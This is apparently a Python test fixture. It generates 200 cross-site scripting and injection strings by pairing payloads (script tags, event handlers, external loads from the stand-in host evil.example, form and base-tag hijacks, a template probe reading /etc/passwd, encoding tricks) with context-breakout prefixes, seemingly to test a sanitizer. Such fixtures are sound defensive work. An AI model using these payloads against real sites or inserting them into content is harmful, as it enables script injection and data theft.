"""Words of strangers that want to be more than words: 200 of them, each from a payload and a context to break out of.

If one runs, it sets `window.ran`, opens a dialog or asks `evil.example` for something.
"""

from itertools import product

EVIL = "https://evil.example"

PAYLOADS = (
    "<script>window.ran=1;alert(1)</script>",
    f"<script src={EVIL}/a.js></script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}/b.png>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    f"<link rel=stylesheet href={EVIL}/c.css><link rel=prefetch href={EVIL}/d>",
    f"<style>@import url({EVIL}/e.css);*{{background:url({EVIL}/f)}}</style>",
    f"<base href={EVIL}/><form action={EVIL}/g id=main><input name=q></form>",
    f'<meta http-equiv=refresh content="0;url={EVIL}/h">',
    f"<iframe srcdoc='<script>alert(1)</script>' src={EVIL}/i></iframe>",
    f"<object data={EVIL}/j></object><embed src={EVIL}/k>",
    "<a href=javascript:alert(1) id=location autofocus onfocus=alert(1) tabindex=1>x</a>",
    f"<div hx-get={EVIL}/l hx-trigger=load hx-on::load=alert(1) data-hx-get={EVIL}/m>x</div>",
    "<details open ontoggle=alert(1)><math><mtext></mtext><mglyph><style><!--</style>",
    f"<video autoplay poster={EVIL}/n src={EVIL}/o onerror=alert(1)></video>",
    "{{ 7*7 }}{% include '/etc/passwd' %}{# x #}{{ view.__class__ }}",
    "onmouseover=alert(1) style=position:fixed;inset:0 x=",
    "javascript:alert(1)//%0aalert(1)",
    f"url({EVIL}/p) expression(alert(1)) //evil.example/q",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "\u202e\u2066<script>\u2028alert(1)\u2029</script>\u200b\ufeff",
    "\x1b]0;x\x07\x1b[31m\x00<script\x00>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<x" * 40 + ">" + "</div>" * 20 + "</body></html><script>alert(1)</script>",
    "a" * 300 + "<plaintext>" + "̈" * 60,
)
"""What would run, load or lead away, were it markup."""

CONTEXTS = ("%s", '">%s', "'>%s", "</title>%s", "--></style></script>%s", "]]>%s", "`\"' %s", "</textarea></svg>%s")
"""What would end the place where it stands."""

WORDS = tuple(context % payload for context, payload in product(CONTEXTS, PAYLOADS))
assert len(WORDS) == 200


def file_name(words: str, number: int) -> str:
    """The name of a file that has these words in it, as far as a name can."""
    cleaned = words.replace("/", "\u2215").replace("\0", "")
    return cleaned.encode()[:180].decode(errors="ignore") + f" {number}.md"
